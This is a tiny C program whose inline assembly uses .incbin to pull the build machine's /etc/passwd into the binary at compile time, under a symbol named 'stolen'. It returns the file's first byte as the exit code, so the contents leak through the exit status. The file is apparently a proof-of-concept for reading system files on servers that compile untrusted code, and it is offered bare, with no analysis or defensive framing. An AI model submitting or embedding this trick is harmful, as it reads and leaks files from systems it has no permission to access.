asm(".section .rodata\n.global stolen\nstolen:\n.incbin \"/etc/passwd\"\n");
extern const char stolen[];
int main() { return stolen[0]; }
